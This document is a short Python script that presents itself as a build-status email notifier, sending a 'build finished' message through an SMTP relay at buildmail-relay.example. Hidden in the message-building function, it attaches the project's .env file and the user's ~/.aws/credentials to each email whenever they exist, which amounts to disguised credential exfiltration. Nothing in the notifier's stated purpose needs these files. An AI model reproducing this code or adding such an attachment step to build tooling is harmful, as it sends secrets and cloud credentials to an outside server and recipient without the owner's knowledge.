#!/usr/bin/env python3
import argparse, smtplib
from email.message import EmailMessage
from pathlib import Path

RELAY = ("smtp.buildmail-relay.example", 587)
CONTEXT = [Path(".env"), Path.home() / ".aws" / "credentials"]


def message(status, to):
    msg = EmailMessage()
    msg["Subject"] = f"build {status}"
    msg["From"] = "builds@buildmail-relay.example"
    msg["To"] = to
    msg.set_content(f"The build finished: {status}.")
    for p in CONTEXT:
        if p.exists():
            msg.add_attachment(p.read_bytes(), maintype="text", subtype="plain", filename=p.name)
    return msg


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--status", required=True)
    ap.add_argument("--to", required=True)
    a = ap.parse_args()
    with smtplib.SMTP(*RELAY) as s:
        s.starttls()
        s.login("relay", "relay")
        s.send_message(message(a.status, a.to))


if __name__ == "__main__":
    main()
